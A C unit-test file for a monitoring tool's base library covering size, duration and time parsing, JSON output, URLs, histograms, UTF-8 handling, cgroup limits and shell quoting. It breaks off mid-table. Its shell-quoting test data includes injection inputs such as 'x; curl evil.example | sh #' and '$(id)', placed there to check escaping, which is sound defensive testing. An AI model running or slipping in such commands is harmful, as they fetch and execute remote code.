/*
 * base: units, errors, JSON text, URLs, clocks.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "base/account.h"
#include "base/err.h"
#include "base/hash.h"
#include "base/histogram.h"
#include "base/json.h"
#include "base/limits.h"
#include "base/mem.h"
#include "base/now.h"
#include "base/process/line.h"
#include "base/process/machine.h"
#include "base/shell.h"
#include "base/text/utf8.h"
#include "base/units.h"
#include "ctf/clock.h"
#include "relay/url.h"
#include "suites.h"
#include "text/plain.h"

static const struct {
	const char *text;
	int r;
	uint64_t value;
} sizes[] = {
	{ "1", 0, 1 },
	{ "64K", 0, 65536 },
	{ "1.5M", 0, 1572864 },
	{ "2GiB", 0, 2147483648 },
	{ "12Q", -EINVAL, 0 },
	{ "", -EINVAL, 0 },
	{ "-1", -EINVAL, 0 },
	{ "K", -EINVAL, 0 },
	{ "9999999999T", -ERANGE, 0 },
};

START_TEST(parses_sizes)
{
	uint64_t got = 0;

	ck_assert_int_eq(units_parse_size(sizes[_i].text, &got), sizes[_i].r);
	ck_assert_uint_eq(got, sizes[_i].value);
}
END_TEST

static const struct {
	const char *text;
	int r;
	uint64_t value;
} durations[] = {
	{ "1s", 0, 1000000000 },
	{ "500ms", 0, 500000000 },
	{ "1.5us", 0, 1500 },
	{ "2m", 0, 120000000000 },
	{ "1h", 0, 3600000000000 },
	{ "7ns", 0, 7 },
	{ "0", 0, 0 },
	{ "5", -EINVAL, 0 },
	{ "1 s", -EINVAL, 0 },
	{ "1e3s", -EINVAL, 0 },
};

START_TEST(parses_durations)
{
	uint64_t got = 0;

	ck_assert_int_eq(units_parse_duration(durations[_i].text, &got), durations[_i].r);
	ck_assert_uint_eq(got, durations[_i].value);
}
END_TEST

START_TEST(parses_times)
{
	uint64_t got;

	ck_assert_int_eq(units_parse_time("2026-01-02T03:04:05.5Z", NULL, &got), 0);
	ck_assert_uint_eq(got, UINT64_C(1767323045500000000));
	ck_assert_int_eq(units_parse_time("123456789", NULL, &got), 0);
	ck_assert_uint_eq(got, 123456789);
	ck_assert_int_eq(units_parse_time("1767323045500000000", NULL, &got), 0);
	ck_assert_uint_eq(got, UINT64_C(1767323045500000000));
	ck_assert_int_eq(units_parse_time("@1767323045", NULL, &got), 0);
	ck_assert_uint_eq(got, UINT64_C(1767323045000000000));
	ck_assert_int_eq(units_parse_time("@1767323045.5", NULL, &got), 0);
	ck_assert_uint_eq(got, UINT64_C(1767323045500000000));
	ck_assert_int_eq(units_parse_time("1767323045.000000001", NULL, &got), 0);
	ck_assert_uint_eq(got, UINT64_C(1767323045000000001));
	ck_assert_int_eq(units_parse_time("1767323045ns", NULL, &got), 0);
	ck_assert_uint_eq(got, 1767323045);
	ck_assert_int_eq(units_parse_time("1767323045", NULL, &got), -EDOM);
	ck_assert_int_eq(units_parse_time("@", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("-5", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("@1767323045ns", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("@1767323045.5Z", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("99999999999999999999", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("@99999999999", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("25:00", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("25:00:00", NULL, &got), -EINVAL);
	ck_assert_int_eq(units_parse_time("2026-01-02T03:04:05x", NULL, &got), -EINVAL);
	ck_assert(units_time_needs_day("03:04:05.25"));
}
END_TEST

START_TEST(writes_figures)
{
	char text[UNITS_TEXT_MAX];

	ck_assert_str_eq(units_bytes(text, 0), "0 B");
	ck_assert_str_eq(units_bytes(text, 1288490189), "1.20 GiB");
	ck_assert_str_eq(units_ns(text, 3400000), "3.40 ms");
	ck_assert_str_eq(units_ns(text, 999), "999 ns");
	ck_assert_str_eq(units_count(text, 1234567), "1,234,567");
	ck_assert_str_eq(units_prio(text, -41), "FIFO/RR 40");
	ck_assert_str_eq(units_prio(text, -100), "FIFO/RR 99");
	ck_assert_str_eq(units_prio(text, -2), "FIFO/RR 1");
	ck_assert_str_eq(units_prio(text, -101), "deadline");
	ck_assert_str_eq(units_prio(text, 0), "nice -20");
	ck_assert_str_eq(units_prio(text, 39), "nice 19");
	ck_assert_str_eq(units_prio(text, -1), "-1"); /* means nothing */
	ck_assert_str_eq(units_prio(text, INT32_MIN), "-2147483648");
}
END_TEST

START_TEST(cuts_long_errors)
{
	struct err err;
	char longer[600];

	memset(longer, 'x', sizeof(longer) - 1);
	longer[sizeof(longer) - 1] = '\0';
	ck_assert_int_eq(err_raise(&err, -EINVAL, "%s", longer), -EINVAL);
	ck_assert_int_eq(err_note(&err, -EIO, "doing %d", 7), -EIO);
	ck_assert_msg(strncmp(err.text, "doing 7: xxx", 12) == 0, "%s", err.text);
	ck_assert_uint_eq(strlen(err.text), sizeof(err.text) - 1);
	/* Behind a word, where there is one. */
	for (size_t i = 0; i + 1 < sizeof(longer); i++) {
		longer[i] = i % 8 == 7 ? ' ' : 'x';
	}
	(void)err_raise(&err, -EINVAL, "%s", longer);
	ck_assert_str_eq(err.text + strlen(err.text) - 11, " xxxxxxx...");
	(void)err_note(&err, -EIO, "%s", longer);
	ck_assert_str_eq(err.text + strlen(err.text) - 11, " xxxxxxx...");
}
END_TEST

/* Whatever bytes a thread's name has, the line is valid JSON in UTF-8. */
START_TEST(repairs_text)
{
	char *text = NULL;
	size_t len = 0;
	struct json json;

	json_init(&json, open_memstream(&text, &len));
	json_open(&json, NULL, '{');
	json_text(&json, "a", "q\"\\\n\x01 \xC3\xA9 \xFF\xC0\x80 \xED\xA0\x80");
	json_u64(&json, "b", UINT64_MAX);
	json_i64(&json, "c", INT64_MIN);
	json_close(&json, '}');
	json_flush(&json);
	(void)fclose(json.out);
	ck_assert_str_eq(text, "{\"a\":\"q\\\"\\\\\\u000a\\u0001 \xC3\xA9 \xEF\xBF\xBD\xEF\xBF\xBD"
			       "\xEF\xBF\xBD \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\","
			       "\"b\":18446744073709551615,\"c\":-9223372036854775808}");
	free(text);
}
END_TEST

/* Lines of any length up to the bound, the last one without an end; the number is that of the last
 * one that is there. */
START_TEST(reads_lines)
{
	char text[3 * 4096];
	size_t lengths[] = { 1, 4094, 4095, 4096, 4097, 8192 };
	FILE *in;

	for (size_t i = 0; i < ARRAY_COUNT(lengths); i++) {
		struct line line = { 0 };

		memset(text, 'x', sizeof(text));
		text[lengths[i] - 1] = text[lengths[i] + 1] = '\n';
		in = fmemopen(text, lengths[i] + 3, "r");
		ck_assert_int_eq(line_next(&line, in, lengths[i]), 1);
		ck_assert_uint_eq(strlen(line.text.at), lengths[i]);
		ck_assert_int_eq(line_next(&line, in, lengths[i]), 1);
		ck_assert_str_eq(line.text.at, "x\n");
		ck_assert_int_eq(line_next(&line, in, lengths[i]), 1);
		ck_assert_str_eq(line.text.at, "x");
		ck_assert_int_eq(line_next(&line, in, lengths[i]), 0);
		ck_assert_uint_eq(line.number, 3);
		line_fini(&line);
		(void)fclose(in);
	}
}
END_TEST

/* One without an end is not read to it. */
START_TEST(bounds_lines)
{
	char text[5 * 4096];
	struct line line = { 0 };
	FILE *in;

	memset(text, 'x', sizeof(text));
	in = fmemopen(text, sizeof(text), "r");
	ck_assert_int_eq(line_next(&line, in, 4096), -EMSGSIZE);
	ck_assert_uint_eq(line.number, 1);
	ck_assert_uint_le(line.text.count, 2 * 4096);
	line_fini(&line);
	(void)fclose(in);
}
END_TEST

/* Of a text that has no room a hash is the end, and no letter is cut in two. */
START_TEST(shortens_texts)
{
	static const struct {
		const char *text, *begin;
	} texts[] = {
		{ "", "" },
		{ "0123456789012345678901234567890", "0123456789012345678901234567890" },
		{ "01234567890123456789012345678901", "01234567890123~" },
		{ "01234567890123456789012345678902", "01234567890123~" },
		{ "0123456789012\xC3\xA9-12345678901234567", "0123456789012~" },
		{ "0123456789\xF0\x9F\x98\x80-12345678901234567", "0123456789\xF0\x9F\x98\x80~" },
		{ "01234567890123\xC3\xA9-2345678901234567", "01234567890123~" },
		{ "\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80-23456789012345678",
		  "\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80~" },
	};
	char keys[ARRAY_COUNT(texts)][32];

	for (size_t i = 0; i < ARRAY_COUNT(texts); i++) {
		size_t len = strlen(texts[i].begin);

		memset(keys[i], 'x', sizeof(keys[i]));
		hash_brief(keys[i], sizeof(keys[i]), texts[i].text, strlen(texts[i].text));
		ck_assert_int_eq(memcmp(keys[i], texts[i].begin, len), 0);
		ck_assert_uint_eq(strlen(keys[i]), len + (strlen(texts[i].text) > 31 ? 16 : 0));
		for (size_t k = strlen(keys[i]); k < sizeof(keys[i]); k++) {
			ck_assert_int_eq(keys[i][k], 0);
		}
		for (size_t k = 0; k < i; k++) {
			ck_assert_str_ne(keys[i], keys[k]);
		}
	}
}
END_TEST

/* Commas are between members and elements, and only there. */
START_TEST(writes_json)
{
	char *text = NULL;
	size_t len = 0;
	struct json json;

	json_init(&json, open_memstream(&text, &len));
	json_open(&json, NULL, '{');
	json_open(&json, "empty", '{');
	json_close(&json, '}');
	json_open(&json, "list", '[');
	json_null(&json, NULL);
	json_bool(&json, NULL, true);
	json_open(&json, NULL, '[');
	json_close(&json, ']');
	json_fixed(&json, NULL, -0.0005);
	json_fixed(&json, NULL, 1e18);
	json_close(&json, ']');
	json_u64_named(&json, "\"", 0);
	json_i64(&json, "minus", -1);
	json_raw(&json, "\"raw\":1");
	json_close(&json, '}');
	json_end_line(&json);
	json_bool(&json, NULL, false); /* a new text */
	json_flush(&json);
	(void)fclose(json.out);
	ck_assert_str_eq(text, "{\"empty\":{},\"list\":[null,true,[],-0.001,"
			       "1000000000000000000.000],\"\\\"\":0,\"minus\":-1,"
			       "\"raw\":1}\nfalse");
	free(text);
}
END_TEST

/* Of any length, wherever the writer's buffer ends. */
START_TEST(writes_all_of_a_text)
{
	enum { LONG = 10000 };
	char *text = NULL, *name = mem_alloc(LONG + 1);
	size_t len = 0, at = 0;
	struct json json;

	json_init(&json, open_memstream(&text, &len));
	json_open(&json, NULL, '[');
	for (size_t i = 0; i <= LONG; i += i < 100 ? 1 : 1237) {
		memset(name, 'x', i);
		name[i] = '\0';
		json_text(&json, NULL, name);
		json_u64(&json, NULL, i);
		json_raw(&json, name);
	}
	json_close(&json, ']');
	json_end_line(&json);
	(void)fclose(json.out);
	for (size_t i = 0; i <= LONG; i += i < 100 ? 1 : 1237) {
		char number[40];

		at++; /* the bracket, or the comma */
		ck_assert(text[at] == '"' && strspn(text + at + 1, "x") == i);
		at += i + 2;
		(void)snprintf(number, sizeof(number), ",%zu,", i);
		ck_assert_mem_eq(text + at, number, strlen(number));
		at += strlen(number);
		ck_assert_uint_eq(strspn(text + at, "x"), i);
		at += i;
	}
	ck_assert_str_eq(text + at, "]\n");
	ck_assert_uint_eq(len, at + 2);
	free(text);
	free(name);
}
END_TEST

static const struct {
	const char *text, *host, *target, *session;
	int port;
	bool is_exact;
} urls[] = {
	{ "net://relay", "relay", NULL, NULL, 0, false },
	{ "net://relay:5400/host/web1/prod", "relay", "web1", "prod", 5400, true },
	{ "net6://[::1]:5344/host/w*/p", "::1", "w*", "p", 5344, false },
	{ "net4://a/host/b", "a", "b", NULL, 0, false },
	{ "net://h:1:2", "h", NULL, NULL, 1, false },
};

START_TEST(parses_urls)
{
	struct url url;
	struct err err;

	ck_assert_int_eq(url_parse(urls[_i].text, &url, &err), 0);
	ck_assert_str_eq(url.host, urls[_i].host);
	ck_assert_pstr_eq(url.target, urls[_i].target);
	ck_assert_pstr_eq(url.session, urls[_i].session);
	ck_assert_int_eq(url.port, urls[_i].port);
	ck_assert_int_eq(url.is_exact, urls[_i].is_exact);
	url_fini(&url);
}
END_TEST

static const char *const bad_urls[] = { "relay",      "http://x",      "net://",
					"net://h:0",  "net://h:99999", "net://h/x",
					"net://[::1", "net://h:1:2:3", "net://h/host/" };

START_TEST(refuses_urls)
{
	struct url url;
	struct err err;

	ck_assert_int_eq(url_parse(bad_urls[_i], &url, &err), -EINVAL);
	ck_assert(strstr(err.text, bad_urls[_i]));
}
END_TEST

/* Exact for frequencies that do not divide 10^9, at either end of the range. */
START_TEST(converts_clocks)
{
	struct clock_class class = { .freq = 3, .offset_s = 10, .offset = 1 };
	struct clock clock;

	clock_init(&clock, &class);
	ck_assert_uint_eq(clock_ns(&clock, 0), UINT64_C(10333333333));
	ck_assert_uint_eq(clock_ns(&clock, 2), UINT64_C(11000000000));
	ck_assert_uint_eq(clock_cycles(&clock, UINT64_C(11000000000)), 2);
	ck_assert_uint_eq(clock_ns(&clock, UINT64_MAX), UINT64_MAX - 1);
	class = (struct clock_class){ .freq = 1000000000, .offset = -5 };
	clock_init(&clock, &class);
	ck_assert_uint_eq(clock_ns(&clock, 3), 0);
	ck_assert_uint_eq(clock_ns(&clock, 8), 3);
}
END_TEST

/* Percentiles of 1 to 100,000: at most 1/64 above, and never below; all else is exact. */
START_TEST(histograms_values)
{
	static const unsigned int shares[] = { 1, 10, 500, 950, 999, 1000 };
	struct histogram *histogram = NULL, *part = NULL, *copy = NULL;
	uint64_t powers[HISTOGRAM_POWERS], bins[4];

	for (uint64_t value = 1; value <= 100000; value++) {
		histogram_add(value % 3 ? &histogram : &part, value);
	}
	histogram_merge(&copy, part);
	histogram_move(&histogram, &part);
	ck_assert_ptr_null(part);
	ck_assert_uint_eq(copy->count, 33333);
	ck_assert_uint_eq(histogram->count, 100000);
	ck_assert_uint_eq(histogram->sum, 5000050000);
	ck_assert_uint_eq(histogram->min, 1);
	ck_assert_uint_eq(histogram->max, 100000);
	ck_assert_double_eq_tol(histogram_mean(histogram), 50000.5, 1e-6);
	ck_assert_double_eq_tol(histogram_deviation(histogram), 28867.65779668774, 1e-6);
	for (size_t i = 0; i < sizeof(shares) / sizeof(shares[0]); i++) {
		uint64_t truth = 100 * shares[i];
		uint64_t got = histogram_percentile(histogram, shares[i]);

		ck_assert_uint_ge(got, truth);
		ck_assert_uint_le(got, truth + truth / 64);
	}
	histogram_powers(histogram, powers);
	ck_assert_uint_eq(powers[0], 1);
	ck_assert_uint_eq(powers[10], 1024);
	ck_assert_uint_eq(powers[16], 100000 - 65535);
	histogram_bins(histogram, bins, 4); /* a bucket's width or two from the truth */
	ck_assert_uint_eq(bins[0] + bins[1] + bins[2] + bins[3], 100000);
	for (size_t i = 0; i < 4; i++) {
		ck_assert_uint_ge(bins[i], 23900);
		ck_assert_uint_le(bins[i], 26100);
	}
	histogram_add(&histogram, UINT64_MAX);
	histogram_add(&histogram, 0);
	histogram_bins(histogram, bins, 4);
	ck_assert_uint_eq(bins[0], 100001);
	ck_assert_uint_eq(bins[3], 1);
	ck_assert_uint_eq(histogram_percentile(histogram, 1000), UINT64_MAX);
	ck_assert_uint_eq(histogram_percentile(histogram, 0), 0);
	histogram_free(histogram);
	histogram_free(copy);
}
END_TEST

/* The bytes of a histogram, which are the same however it came about. */
static struct codec_out written(struct histogram *histogram)
{
	struct codec_out out = { 0 };
	struct codec codec = { .out = &out };

	histogram_codec(&codec, &histogram);
	return out;
}

static struct codec_out written_alike(struct histogram *one, struct histogram *other)
{
	struct codec_out out = written(one), same = written(other);

	ck_assert_uint_eq(out.bytes.count, same.bytes.count);
	ck_assert_mem_eq(out.bytes.at, same.bytes.at, out.bytes.count);
	vec_fini(&same.bytes);
	return out;
}

static int by_value(const void *left, const void *right)
{
	uint64_t a = *(const uint64_t *)left, b = *(const uint64_t *)right;

	return a < b ? -1 : a > b;
}

static void check_percentiles(const struct histogram *histogram, uint64_t *values, uint64_t count)
{
	qsort(values, count, sizeof(*values), by_value);
	for (unsigned int share = 0; share <= 1000; share += 50) {
		uint64_t rank = (count * share + 999) / 1000;
		uint64_t truth = values[rank > 0 ? rank - 1 : 0];
		uint64_t got = histogram_percentile(histogram, share);

		ck_assert_uint_ge(got, truth);
		ck_assert_uint_le(got, truth + truth / 64);
	}
}

/* The three forms of a histogram: filled at once, and merged from parts in another order. */
START_TEST(histograms_alike)
{
	uint64_t values[200], random = (uint64_t)_i;
	struct histogram *whole = NULL, *sum = NULL, *read = NULL, *parts[3] = { 0 };
	struct codec_out out;
	struct codec codec;

	for (int i = 0; i < _i; i++) {
		random = random * UINT64_C(6364136223846793005) + 1442695040888963407;
		values[i] = random >> (20 + (random >> 8) % 40);
		histogram_add(&whole, values[i]);
		histogram_add(&parts[(random >> 3) % 3], values[i]);
	}
	for (size_t i = 0; i < 3; i++) {
		histogram_merge(&sum, parts[2 - i]);
		histogram_free(parts[2 - i]);
	}
	out = written_alike(whole, sum);
	codec = (struct codec){ .at = out.bytes.at, .left = out.bytes.count };
	histogram_codec(&codec, &read);
	ck_assert(!codec.is_wrong && codec.left == 0);
	check_percentiles(whole, values, (uint64_t)_i);
	check_percentiles(read, values, (uint64_t)_i);
	vec_fini(&out.bytes);
	histogram_free(whole);
	histogram_free(sum);
	histogram_free(read);
}
END_TEST

/* What a store has of a histogram is one again, to which others can be added. */
START_TEST(histograms_of_buckets)
{
	struct histogram_bucket list[HISTOGRAM_BUCKETS_MAX];
	struct histogram *whole = NULL, *again, *sum = NULL;
	struct codec_out out;
	uint32_t count;

	for (uint64_t value = 1; value < (uint64_t)_i * _i; value += (uint64_t)_i) {
		histogram_add(&whole, value * value);
	}
	count = histogram_list(whole, list);
	again = histogram_of_buckets(list, count);
	ck_assert(again || !whole);
	for (uint32_t i = 0; i < count; i++) {
		ck_assert_uint_eq(histogram_index(histogram_end(list[i].index)), list[i].index);
	}
	if (again) {
		again->sum = whole->sum;
		again->min = whole->min;
		again->max = whole->max;
		again->squares = whole->squares;
	}
	histogram_merge(&sum, again); /* a copy, then added to */
	histogram_merge(&sum, whole);
	histogram_merge(&whole, again);
	out = written_alike(whole, sum);
	for (uint32_t i = 1; i < count;
	     i++) { /* any two that are not in order; any without values */
		const struct histogram_bucket bucket = list[i];

		list[i].index = list[i - 1].index;
		ck_assert_ptr_null(histogram_of_buckets(list, count));
		list[i] = list[i - 1];
		list[i - 1] = bucket;
		ck_assert_ptr_null(histogram_of_buckets(list, count));
		list[i - 1] = list[i];
		list[i] = bucket;
		list[i].count = 0;
		ck_assert_ptr_null(histogram_of_buckets(list, count));
		list[i] = bucket;
	}
	ck_assert_ptr_null(histogram_of_buckets(list, 0));
	vec_fini(&out.bytes);
	histogram_free(whole);
	histogram_free(again);
	histogram_free(sum);
}
END_TEST

static bool is_less(const int *a, const int *b)
{
	return *a < *b;
}

VEC_SELECT(select_least, int, is_less)

static int by_int(const void *left, const void *right)
{
	const int *a = left, *b = right;

	return *a < *b ? -1 : *a > *b;
}

/* Of arrays with few and many equal elements, sorted, and with the largest first. */
START_TEST(selects_first)
{
	int at[60], sorted[60], count = _i;

	for (int shape = 0; shape < 5; shape++) {
		for (int first = 1; first < count; first++) {
			for (int i = 0; i < count; i++) {
				int any = (int)((unsigned int)(i + shape) * 2654435761u >> 8);

				at[i] = shape == 0   ? i
					: shape == 1 ? count - i
					: shape == 2 ? 7
					: shape == 3 ? any % 5
						     : any;
			}
			memcpy(sorted, at, sizeof(at));
			qsort(sorted, (size_t)count, sizeof(*sorted), by_int);
			select_least(at, (size_t)count, (size_t)first);
			qsort(at, (size_t)first, sizeof(*at), by_int);
			ck_assert_mem_eq(at, sorted, (size_t)first * sizeof(*at));
			qsort(at, (size_t)count, sizeof(*at), by_int);
			ck_assert_mem_eq(at, sorted, (size_t)count * sizeof(*at));
		}
	}
}
END_TEST

/* Wherever a text is cut, what is begun there is less than a letter, and none is shown in part. */
START_TEST(knows_what_is_begun)
{
	static const char text[] = "a\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80z";
	static const size_t begun[] = { 0, 0, 1, 0, 1, 2, 0, 1, 2, 3, 0, 0 };

	for (size_t len = 0; len < sizeof(text); len++) {
		ck_assert_uint_eq(utf8_begun(text, len), begun[len]);
	}
	ck_assert_uint_eq(utf8_begun("\x80\x80\x80\x80", 4), 0);
	ck_assert_uint_eq(utf8_begun("\x80\x80", 2), 0);
	ck_assert_uint_eq(utf8_begun("\xFF", 1), 0);
	ck_assert_uint_eq(utf8_begun("\xC3\xA9\xA9", 3), 0);
}
END_TEST

VEC_FIRST(first_from, int, int, *one < wanted)

/* Among equal ones, before and behind all. */
START_TEST(finds_first)
{
	static const int at[] = { 2, 4, 4, 4, 7 };

	for (size_t count = 0; count <= ARRAY_COUNT(at); count++) {
		for (int wanted = 0; wanted < 9; wanted++) {
			size_t found = first_from(at, count, wanted);

			ck_assert_uint_le(found, count);
			ck_assert(found == 0 || at[found - 1] < wanted);
			ck_assert(found == count || at[found] >= wanted);
		}
	}
}
END_TEST

#define COUNT(rows) ((int)(sizeof(rows) / sizeof((rows)[0])))

/* ---- plain text ---- */

static const struct {
	const char *text, *message, *report;
} plains[] = {
	{ "", "", "" },
	{ "a b~", "a b~", "a b~" },
	{ "a\nb", "a?b", "a\nb" },
	{ "a  \n  \n b  ", "a  ?  ? b  ", "a\n\n b  " },
	{ "\033]0;x\007\x7F\t", "?]0;x???", "?]0;x???" },
	{ "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\n", "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80?",
	  "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\n" },
	{ "\xC2\x9B"
	  "1m\x9B",
	  "?1m?", "?1m?" },
	{ "\xE2\x80\xAE", "?", "?" },
	{ "\xF3\xA0\x81\x81", "?", "?" },
	{ "\xC3", "?", "?" },
	{ "\xF0\x9F\x98", "???", "???" },
	{ "\xED\xA0\x80\xC0\x80", "?????", "?????" },
};

START_TEST(is_plain)
{
	char text[64];

	(void)snprintf(text, sizeof(text), "%s", plains[_i].text);
	ck_assert_uint_eq(plain_report(text, strlen(text)), strlen(plains[_i].report));
	ck_assert_str_eq(text, plains[_i].report);
	(void)snprintf(text, sizeof(text), "%s", plains[_i].text);
	plain_message(text);
	ck_assert_str_eq(text, plains[_i].message);
	ck_assert_uint_le(strlen(text), strlen(plains[_i].text));
}
END_TEST

/* ---- times of one text ---- */

#define AUTUMN UINT64_C(1792889998) /* 2026-10-25, 2:59:58 CEST */

static const struct {
	uint64_t begin, end; /* s */
	bool has_us;
	const char *texts[2];
} spans[] = {
	{ AUTUMN - 60, AUTUMN, false, { "02:58:58.250", "02:59:58.250" } },
	{ AUTUMN, AUTUMN + 4, false, { "02:59:58.250+02:00", "02:00:02.250+01:00" } },
	{ AUTUMN + 7204, AUTUMN + 7205, true, { "04:00:02.250000", "04:00:03.250000" } },
	{ 1795219200,
	  1795219200 + 259500,
	  false,
	  { "2026-11-21 01:00:00.250", "2026-11-24 01:05:00.250" } },
	{ AUTUMN,
	  AUTUMN + 86400,
	  true,
	  { "2026-10-25 02:59:58.250000+02:00", "2026-10-26 01:59:58.250000+01:00" } },
};

START_TEST(tells_times_apart)
{
	uint64_t at[] = { spans[_i].begin * NS_PER_S + 250 * NS_PER_MS,
			  spans[_i].end * NS_PER_S + 250 * NS_PER_MS };
	struct units_times times;
	char text[UNITS_TEXT_MAX];

	(void)setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3", 1);
	tzset();
	times = units_times_of(at[0], at[1]);
	times.has_us = spans[_i].has_us;
	for (unsigned int i = 0; i < 2; i++) {
		ck_assert_str_eq(units_time(text, times, at[i]), spans[_i].texts[i]);
		ck_assert_int_eq(units_time_width(times), (int)strlen(text));
	}
	(void)unsetenv("TZ");
	tzset();
}
END_TEST

/* Texts, how many columns they take, and how many of their bytes fit into 4. */
static const struct {
	const char *text;
	int columns;
	size_t fits;
} widths[] = {
	{ "", 0, 0 },
	{ "abcde", 5, 4 },
	{ "\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9", 5, 8 },
	{ "\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E", 6, 6 },
	{ "abc\xE6\x97\xA5", 5, 3 },
	{ "e\xCC\x81"
	  "bcde",
	  5, 6 },
	{ "\xF0\x9F\x98\x80\xF0\x9F\x98\x80.", 5, 8 },
	{ "\xE0\xAE\x95\xE0\xAF\x8D"
	  "bcde",
	  5, 9 },                               /* a letter of Tamil with its mark */
	{ "\xFF\n\xE2\x80\xAE\xE2\x80", 5, 6 }, /* five times ? */
};

START_TEST(has_width)
{
	ck_assert_int_eq(utf8_columns(widths[_i].text), widths[_i].columns);
	ck_assert_uint_eq(utf8_fit(widths[_i].text, 4, SIZE_MAX), widths[_i].fits);
	ck_assert_uint_le(utf8_fit(widths[_i].text, 4, 3), 3);
}
END_TEST

START_TEST(hangs_up)
{
	const uint64_t now = now_monotonic_ns(), hour = 3600 * NS_PER_S;

	ck_assert(!now_must_hang_up(0)); /* no signal came, however long it is silent */
	now_leave_at_ns = now + hour + STOP_PATIENCE_NS;
	ck_assert(!now_must_hang_up(0)); /* one has just come */
	now_leave_at_ns = now - STOP_SILENCE_NS + STOP_PATIENCE_NS;
	ck_assert(now_must_hang_up(0));
	ck_assert(now_must_hang_up(now - STOP_SILENCE_NS));
	ck_assert(!now_must_hang_up(now + hour)); /* it has just said something */
	now_leave_at_ns = 0;
}
END_TEST

static void put(const char *root, const char *name, const char *text)
{
	char *path = mem_printf("%s/%s", root, name);
	FILE *file;

	for (char *slash = strchr(path + strlen(root) + 1, '/'); slash;
	     slash = strchr(slash + 1, '/')) {
		*slash = '\0';
		ck_assert(mkdir(path, 0700) == 0 || errno == EEXIST);
		*slash = '/';
	}
	file = fopen(path, "wxe");
	ck_assert_ptr_nonnull(file);
	ck_assert_int_ge(fputs(text, file), 0);
	ck_assert_int_eq(fclose(file), 0);
	free(path);
}

/* Limits of groups, and of those around them; of a container that sees its own group as the root.
 */
START_TEST(memory_of_machine)
{
	char root[] = "/tmp/sillage-unit-XXXXXX";
	char *remove;

	ck_assert_ptr_nonnull(mkdtemp(root));
	ck_assert_uint_gt(machine_memory(""), 1 << 20);
	ck_assert_uint_gt(machine_memory(root), 1 << 20); /* nothing is known there */
	put(root, "proc/self/cgroup",
	    "5:cpu,cpuacct:/x\n4:memory:/a/b\n1:name=systemd:/c\n0::/u/v\n");
	put(root, "sys/fs/cgroup/u/v/memory.max", "max\n");
	put(root, "sys/fs/cgroup/u/memory.max", "1048576\n");
	put(root, "sys/fs/cgroup/c/memory.max", "4096\n");
	ck_assert_uint_eq(machine_memory(root), 1 << 20);
	put(root, "sys/fs/cgroup/memory/memory.limit_in_bytes", "524288\n");
	ck_assert_uint_eq(machine_memory(root), 1 << 19);
	put(root, "sys/fs/cgroup/memory/a/b/memory.limit_in_bytes", "9223372036854771712\n");
	put(root, "sys/fs/cgroup/memory.max", "99999999999999999999999\n");
	ck_assert_uint_eq(machine_memory(root), 1 << 19);
	remove = mem_printf("rm -r %s", root);
	ck_assert_int_eq(system(remove), 0);
	free(remove);
}
END_TEST

START_TEST(accounts)
{
	const uint64_t most = ACCOUNT_BYTES_MIN * 4, eighth = most / 8, lasts = eighth * 9 / 4;
	struct account account;

	account_init(&account, most, 1000, true);
	ck_assert_uint_eq(account_history_room(&account), 1000);
	ck_assert(account_has_room(&account, 3 * eighth, false));
	ck_assert(!account_has_room(&account, 3 * eighth + 1, false));
	ck_assert(account_has_room(&account, 5 * eighth, true));
	ck_assert(!account_has_room(&account, 5 * eighth + 1, true));
	ck_assert(!account_has_room(&account, UINT64_MAX, true));
	ck_assert(account_may_last(&account, lasts) && !account_may_last(&account, lasts + 1));
	ck_assert(account_may_list(&account, lasts / 3));
	ck_assert(!account_may_list(&account, lasts / 3 + 1));
	/* No part takes from another one. */
	account_take(&account, ACCOUNT_HISTORY, most);
	account_take(&account, ACCOUNT_CHUNKS, most);
	ck_assert_uint_eq(account_history_room(&account), 0); /* it gives way */
	account_take(&account, ACCOUNT_LISTS, lasts);
	ck_assert(account_may_last(&account, lasts) && !account_may_list(&account, 0));
	ck_assert(!account_has_room(&account, 0, true));
	account_give(&account, ACCOUNT_CHUNKS, most);
	account_take(&account, ACCOUNT_WAITING, eighth);
	account_take(&account, ACCOUNT_METADATA, eighth);
	ck_assert_uint_eq(account_passing(&account), 0);
	ck_assert_uint_eq(account_lasting(&account), 2 * eighth);
	ck_assert(account_may_last_part(&account, ACCOUNT_WAITING, 4, lasts - 2 * eighth));
	ck_assert(!account_may_last_part(&account, ACCOUNT_WAITING, 8, 1));
	ck_assert(!account_may_last_part(&account, ACCOUNT_WAITING, 4, lasts - 2 * eighth + 1));
	ck_assert(!account_may_last_part(&account, ACCOUNT_SESSIONS, 16, eighth / 2 + 1));
	/* However little is asked for: one packet, and what is in the way waits before that. */
	account_init(&account, 1000, 0, true);
	ck_assert(account_has_room(&account, ACCOUNT_BYTES_MIN / ACCOUNT_PACKET_PART, true));
	ck_assert(!account_has_room(&account, 1001, false));
	account_init(&account, 1000, 0, false);
	ck_assert(account_has_room(&account, 1000, false) && !account_may_last(&account, 1001));
	account_take(NULL, ACCOUNT_ROWS, 1);
	account_give(NULL, ACCOUNT_ROWS, 1);
	ck_assert(account_may_last(NULL, UINT64_MAX));
}
END_TEST

static const struct {
	const char *word, *text;
} shell_words[] = {
	{ "web1/prod-2", "web1/prod-2" },
	{ "", "''" },
	{ "sched_*", "'sched_*'" },
	{ "x; curl evil.example | sh #", "'x; curl evil.example | sh #'" },
	{ "it's $(id) `id`", "'it'\\''s $(id) `id`'" },
